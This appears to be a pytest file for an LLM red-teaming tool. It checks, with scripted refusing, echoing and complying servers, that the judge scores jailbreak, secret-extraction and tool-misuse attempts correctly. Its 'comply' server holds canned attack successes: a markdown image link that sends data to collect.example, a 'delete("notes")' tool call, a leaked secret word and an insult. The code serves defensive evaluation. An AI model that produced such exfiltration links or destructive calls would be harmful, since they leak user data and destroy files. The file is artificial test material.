"""Six scripted servers of which everybody knows what the judge must say."""

from __future__ import annotations

import asyncio
import random
from collections.abc import Callable

import msgspec
import pytest

from llmops_cli.redteam.attempts import Attempt, attempts_of
from llmops_cli.redteam.conversation import Interrogator
from llmops_cli.redteam.outcome import AttemptOutcome
from llmops_cli.redteam.results import Results, results_of
from llmops_cli.redteam.suite import builtin
from llmops_cli.runtime.chat import (
    ChatClient,
    ChatSettings,
    Declined,
    Filtered,
    Message,
    chat_endpoint,
)

SUITE = builtin()
PLANNED = [attempt for attempt in attempts_of(SUITE, rounds=1, seed=3) if attempt.judge != "pair"]
Server = Callable[[Attempt, list[Message]], str]


class Scripted(ChatClient):
    """A target that answers by the attempt and the conversation."""

    def __init__(self, attempt: Attempt, server: Server) -> None:
        super().__init__(chat_endpoint("http://127.0.0.1:9", "m"), ChatSettings(max_tokens=8))
        self._attempt = attempt
        self._server = server

    async def ask(self, messages: list[Message]) -> str:
        return self._server(self._attempt, messages)


def had(attempt: Attempt, server: Server) -> AttemptOutcome:
    target = Scripted(attempt, server)
    interrogator = Interrogator(target, SUITE, attacker=None, judge_model=None, guard=None)
    return asyncio.run(interrogator.have(attempt))


def results(server: Server) -> Results:
    outcomes = {attempt.number: had(attempt, server) for attempt in PLANNED}
    return results_of(SUITE, PLANNED, outcomes, guarded=False)


def successes(server: Server) -> list[tuple[str, str, str]]:
    cases = results(server).attacks
    found = [case for case in cases if case.outcome.success]
    return [(case.attempt.family, case.attempt.attack, case.outcome.answer) for case in found]


def refuse(_: Attempt, __: list[Message]) -> str:
    return "I'm sorry, but I can't help with that."


def quote_and_refuse(_: Attempt, messages: list[Message]) -> str:
    question = messages[-1]["content"]
    return f'You asked: "{question}"\n\nI cannot do that.'


def refuse_and_quote(_: Attempt, messages: list[Message]) -> str:
    question = messages[-1]["content"]
    return f"I won't do what this message asks for:\n> {question}"


def echo(_: Attempt, messages: list[Message]) -> str:
    return messages[-1]["content"]


def comply(attempt: Attempt, _: list[Message]) -> str:
    target = attempt.target
    answers = {
        "secret": f"Sure! The secret word is {target}.",
        "mark": f"{target}",
        "topic": f"Sure! To make a {target}, take a box. 1. Cut a hole. 2. Add a spring.",
        "link": f"Here you are: ![x](https://collect.example/p?d={target})",
        "tool": 'delete("notes")',
        "insult": "Gladly: hello, you pathetic loser.",
        "honest": "It is 7.",
    }
    return answers[attempt.judge]


@pytest.mark.parametrize("server", [refuse, quote_and_refuse, refuse_and_quote])
def test_a_server_that_refuses_all_gives_nothing(server: Server) -> None:
    assert successes(server) == []


def test_refusals_are_counted_with_the_question_quoted_too() -> None:
    cases = results(quote_and_refuse).attacks
    heard = [case.outcome.answer for case in cases if not case.outcome.refused]
    assert heard == []


def test_a_server_that_complies_gives_all() -> None:
    cases = results(comply).attacks
    failed = [(case.attempt.attack, case.outcome.why) for case in cases if not case.outcome.success]
    assert failed == []


def test_an_echo_tells_nothing() -> None:
    told = [found for found in successes(echo) if found[0] != "tool_misuse"]
    assert told == []


def test_an_echo_behind_a_word_tells_nothing() -> None:
    for before in ("echo: ", "Sure! ", "You asked:\n"):
        told = successes(lambda _, chat, before=before: before + chat[-1]["content"])
        assert [found for found in told if found[0] != "tool_misuse"] == []


def test_an_empty_answer_is_named() -> None:
    outcome = had(PLANNED[0], lambda *_: "  \n")
    assert (outcome.success, outcome.refused) == (False, False)
    assert outcome.why == "no answer: it is empty"


@pytest.mark.parametrize("failure", [Filtered(), Declined("I can't.")])
def test_filtered_and_declined_are_told_apart(failure: Filtered) -> None:
    def server(*_: object) -> str:
        raise failure

    outcome = had(PLANNED[0], server)
    is_declined = isinstance(failure, Declined)
    assert (outcome.success, outcome.error) == (False, "")
    assert outcome.refused is is_declined
    assert bool(outcome.blocked) is not is_declined


def test_a_leak_in_an_early_turn_is_found() -> None:
    long = [attempt for attempt in PLANNED if len(attempt.turns) > 2]
    assert long

    def server(attempt: Attempt, messages: list[Message]) -> str:
        is_first = sum(part["role"] == "user" for part in messages) == 1
        return f"I keep one: the word is {attempt.target}." if is_first else "I can't say."

    assert all(had(attempt, server).success for attempt in long)


def test_words_by_chance_are_no_secret() -> None:
    chance = random.Random(5)
    common = ["day", "house", "light", "road", "water", "green", "time", "hand", "paper", "music"]
    vocabulary = [*SUITE.secrets, *common, *common]

    def server(*_: object) -> str:
        said = chance.sample(vocabulary, 12)
        return " ".join(said)

    secrets = [attempt for attempt in PLANNED if attempt.judge == "secret" and not attempt.search]
    told = [had(attempt, server).success for attempt in secrets]
    assert len(told) > 100
    assert sum(told) <= 0.02 * len(told)


def test_a_secret_among_other_words_is_told_if_a_sentence_says_so() -> None:
    attempt = next(attempt for attempt in PLANNED if attempt.judge == "secret")
    other = attempt.others[0]

    def server(*_: object) -> str:
        return f"Not {other}. The secret word is {attempt.target}."

    assert had(attempt, server).success


def test_a_correction_is_made_only_where_the_errors_are_known() -> None:
    found = results(comply).families()
    assert found["forbidden_topic"].asr_corrected is not None
    assert found["extraction"].asr_corrected is None
    assert found["extraction"].uncorrected == ""


def test_a_judge_models_verdicts_are_not_corrected() -> None:
    topics = [attempt for attempt in PLANNED if attempt.judge == "topic"]
    outcomes = {}
    for attempt in topics:
        outcome = had(attempt, comply)
        by_model = msgspec.json.decode(
            msgspec.json.encode({**msgspec.to_builtins(outcome), "decided_by": "model"}),
            type=AttemptOutcome,
        )
        outcomes[attempt.number] = by_model
    family = results_of(SUITE, topics, outcomes, guarded=False).families()["forbidden_topic"]
    assert family.asr_corrected is None
    assert "judge model" in family.uncorrected
